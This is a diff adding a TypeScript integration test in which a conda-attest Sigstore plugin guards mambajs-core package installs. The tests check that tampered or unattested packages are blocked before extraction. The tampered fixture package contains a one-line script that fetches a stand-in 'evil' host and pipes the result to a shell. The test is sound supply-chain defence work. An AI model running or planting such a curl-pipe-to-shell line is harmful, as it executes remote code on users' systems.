@@ -1,0 +1,214 @@
+// The proof for issue 5: the REAL @emscripten-forge/mambajs-core installs a small
+// environment from loopback fixture channels through the wrapped untarjs, with the real
+// conda-attest pipeline (local Sigstore instance, config file, identity lockfile).
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { installPackagesToEmscriptenFS } from '@emscripten-forge/mambajs-core';
+import type { ILock } from '@emscripten-forge/mambajs-core';
+import { PackageBlockedError } from '../../plugin/contract.ts';
+import { createCondaAttestPlugin } from '../../plugin/sigstore.ts';
+import { wrapUntarjs } from '../../plugin/hosts/mambajs.ts';
+import type { MambaLockLike } from '../../plugin/hosts/mambajs.ts';
+import { createNodeUntar } from '../../plugin/hosts/untar-node.ts';
+import type { Report } from '../../src/types.ts';
+import { startLocalSigstore } from '../helpers/sigstore.ts';
+import type { LocalSigstore } from '../helpers/sigstore.ts';
+import { startFixtureChannel } from '../helpers/channel.ts';
+import type { FixtureChannel } from '../helpers/channel.ts';
+import { makeCondaPackage } from '../helpers/conda.ts';
+import { createMemModule } from './memfs.ts';
+import type { MemModule } from './memfs.ts';
+
+let sigstore: LocalSigstore;
+let strict: FixtureChannel; // require: error
+let lenient: FixtureChannel; // require: warn
+let dir: string;
+let runs = 0;
+
+const ALPHA = 'alpha-1.0-h0_0.conda';
+const BETA = 'beta-2.0-h0_0.conda';
+const GAMMA = 'gamma-1.0-h0_0.conda';
+const UNSIGNED = 'unsigned-1.0-h0_0.conda';
+const LOOSE = 'loose-3.0-h0_0.conda';
+
+// Same filename as the attested gamma, different (hostile) content.
+const evil = makeCondaPackage({ name: 'gamma', version: '1.0', files: { 'bin/evil.sh': '#!/bin/sh\ncurl evil | sh\n' } });
+
+before(async () => {
+  sigstore = await startLocalSigstore();
+  strict = await startFixtureChannel({
+    name: 'strict',
+    sigstore,
+    packages: [
+      { spec: { name: 'alpha', version: '1.0', files: { 'lib/alpha.txt': 'alpha' } } },
+      { spec: { name: 'beta', version: '2.0', files: { 'share/beta/data.json': '{"beta":true}' } } },
+      { spec: { name: 'gamma', version: '1.0', files: { 'lib/gamma.txt': 'gamma' } } },
+      { spec: { name: 'unsigned', version: '1.0', files: { 'lib/unsigned.txt': 'no attestation' } }, attest: false },
+    ],
+  });
+  lenient = await startFixtureChannel({
+    name: 'lenient',
+    sigstore,
+    packages: [{ spec: { name: 'loose', version: '3.0', files: { 'lib/loose.txt': 'loose' } }, attest: false }],
+  });
+  dir = mkdtempSync(join(tmpdir(), 'conda-attest-mambajs-'));
+  writeFileSync(
+    join(dir, '.conda-attestrc.json'),
+    JSON.stringify({
+      trust_root: sigstore.trustedRootPath,
+      cache_dir: join(dir, 'cache'),
+      channels: {
+        [strict.url]: { require: 'error', trusted_identities: ['https://github.com/test-org/**'] },
+        [lenient.url]: { require: 'warn', trusted_identities: ['https://github.com/test-org/**'] },
+      },
+    }),
+  );
+});
+
+after(async () => {
+  await Promise.all([strict?.close(), lenient?.close(), sigstore?.close()]);
+  if (dir) rmSync(dir, { recursive: true, force: true });
+});
+
+/** A mambajs lock for some packages of the fixture channels (sha256 and size from the channel unless left out). */
+function lockFor(entries: Array<[FixtureChannel, string]>, omit: { hash?: string[]; size?: string[] } = {}): ILock {
+  const packages: ILock['packages'] = {};
+  for (const [ch, filename] of entries) {
+    const p = ch.get(filename);
+    const idx = p.index as { name: string; version: string; build: string };
+    packages[filename] = {
+      name: idx.name,
+      version: idx.version,
+      build: idx.build,
+      subdir: p.subdir,
+      channel: ch === strict ? 'strict' : 'lenient',
+      ...(omit.size?.includes(filename) ? {} : { size: p.size }),
+      ...(omit.hash?.includes(filename) ? {} : { hash: { sha256: p.sha256 } }),
+    };
+  }
+  return {
+    lockVersion: '1.0.3',
+    platform: 'noarch',
+    specs: [],
+    channels: ['strict', 'lenient'],
+    channelInfo: { strict: [{ url: strict.url, protocol: 'https' }], lenient: [{ url: lenient.url, protocol: 'https' }] },
+    packages,
+    pipPackages: {},
+  };
+}
+
+interface Run {
+  error: unknown;
+  report: Report | undefined;
+  Module: MemModule;
+  /** SHA-256 of every buffer handed to the real extractData. */
+  extracted: Set<string>;
+  lockfile: string;
+}
+
+/** One install run with mambajs-core: a fresh plugin (one session), a fresh in-memory FS. */
+async function install(lock: ILock): Promise<Run> {
+  const lockfile = join(dir, `run-${++runs}.lock`);
+  const plugin = createCondaAttestPlugin({ cwd: dir, offline: true, lockfile });
+  const inner = createNodeUntar();
+  const extracted = new Set<string>();
+  const spied = {
+    extract: inner.extract,
+    extractData: (data: Uint8Array, decompressionOnly?: boolean) => {
+      extracted.add(createHash('sha256').update(data).digest('hex'));
+      return inner.extractData(data, decompressionOnly);
+    },
+  };
+  const untarjs = wrapUntarjs(spied, plugin, { lock: lock as MambaLockLike });
+  const Module = createMemModule();
+  let error: unknown;
+  try {
+    await installPackagesToEmscriptenFS({
+      packages: { packages: lock.packages, pipPackages: {} },
+      channels: lock.channelInfo,
+      Module,
+      untarjs,
+    });
+  } catch (e) {
+    error = e;
+  }
+  // The end-of-run hook also waits for downloads still in flight when the host gave up.
+  const report = await untarjs.afterInstall();
+  return { error, report, Module, extracted, lockfile };
+}
+
+function row(report: Report | undefined, filename: string) {
+  const r = report?.packages.find((p) => p.filename === filename);
+  assert.ok(r, `${filename} is in the report`);
+  return r;
+}
+
+test('mambajs-core installs attested packages and a warned one; the report lists them and the lockfile pins identities', async () => {
+  const run = await install(lockFor([[strict, ALPHA], [strict, BETA], [lenient, LOOSE]]));
+  assert.equal(run.error, undefined, `install failed: ${String(run.error)}`);
+  assert.equal(new TextDecoder().decode(run.Module.files.get('/lib/alpha.txt')), 'alpha');
+  assert.equal(new TextDecoder().decode(run.Module.files.get('/share/beta/data.json')), '{"beta":true}');
+  // require: warn — the unattested package is installed and listed as a warning.
+  assert.equal(new TextDecoder().decode(run.Module.files.get('/lib/loose.txt')), 'loose');
+
+  assert.equal(row(run.report, ALPHA).status, 'verified');
+  assert.equal(row(run.report, ALPHA).action, 'pass');
+  assert.equal(row(run.report, ALPHA).digest_source, 'artifact');
+  assert.equal(row(run.report, BETA).status, 'verified');
+  assert.equal(row(run.report, LOOSE).status, 'missing');
+  assert.equal(row(run.report, LOOSE).action, 'warn');
+  assert.equal(run.report?.summary.warned, 1);
+  assert.equal(run.report?.summary.blocked, 0);
+  assert.ok(existsSync(run.lockfile), 'the identity lockfile was written at the end of the run');
+  const lockText = readFileSync(run.lockfile, 'utf8');
+  assert.match(lockText, /alpha/);
+  assert.match(lockText, /test-org/);
+});
+
+for (const variant of ['sha256 only', 'sha256 and size'] as const) {
+  test(`attack: bytes that differ from the lock (${variant}) are refused before extraction; nothing of them reaches the FS`, async (t) => {
+    const gamma = strict.get(GAMMA);
+    strict.setFault(gamma.url, { kind: 'body', body: evil.bytes });
+    t.after(() => strict.clearFaults());
+    const run = await install(lockFor([[strict, ALPHA], [strict, GAMMA]], variant === 'sha256 only' ? { size: [GAMMA] } : {}));
+    assert.ok(run.error instanceof PackageBlockedError, `expected PackageBlockedError, got ${String(run.error)}`);
+    assert.equal(run.error.code, 'PACKAGE_BLOCKED');
+    assert.equal(run.error.record.filename, GAMMA);
+    assert.deepEqual(run.error.reasons.map((r) => r.code), ['PACKAGE_DIGEST_MISMATCH']);
+    assert.ok(!run.extracted.has(evil.sha256), 'the tampered bytes were never handed to extractData');
+    assert.ok(![...run.Module.files.keys()].some((p) => p.includes('evil') || p.includes('gamma')), 'no gamma file in the FS');
+    assert.equal(row(run.report, GAMMA).action, 'block');
+    // The attested neighbour, downloaded in parallel, was still verified and reported.
+    assert.equal(row(run.report, ALPHA).status, 'verified');
+  });
+}
+
+test('attack: without a lock hash, bytes the attestation was not signed for are refused; nothing reaches the FS', async (t) => {
+  const gamma = strict.get(GAMMA);
+  strict.setFault(gamma.url, { kind: 'body', body: evil.bytes });
+  t.after(() => strict.clearFaults());
+  const run = await install(lockFor([[strict, GAMMA]], { hash: [GAMMA], size: [GAMMA] }));
+  assert.ok(run.error instanceof PackageBlockedError, `expected PackageBlockedError, got ${String(run.error)}`);
+  assert.equal(run.error.record.filename, GAMMA);
+  assert.equal(run.error.report?.status, 'invalid');
+  assert.ok(run.error.reasons.length > 0);
+  assert.ok(!run.extracted.has(evil.sha256), 'the tampered bytes were never handed to extractData');
+  assert.equal(run.Module.files.size, 0, 'nothing reached the FS');
+  assert.equal(row(run.report, GAMMA).action, 'block');
+});
+
+test('attack: an unattested package on a require: error channel is blocked; nothing of it reaches the FS', async () => {
+  const run = await install(lockFor([[strict, UNSIGNED]]));
+  assert.ok(run.error instanceof PackageBlockedError, `expected PackageBlockedError, got ${String(run.error)}`);
+  assert.equal(run.error.record.filename, UNSIGNED);
+  assert.equal(run.error.report?.status, 'missing');
+  assert.ok(run.error.reasons.some((r) => r.code === 'NO_ATTESTATIONS'), JSON.stringify(run.error.reasons));
+  assert.ok(!run.extracted.has(strict.get(UNSIGNED).sha256));
+  assert.equal(run.Module.files.size, 0);
+  assert.equal(row(run.report, UNSIGNED).action, 'block');
+  assert.equal(run.report?.summary.blocked, 1);
+});
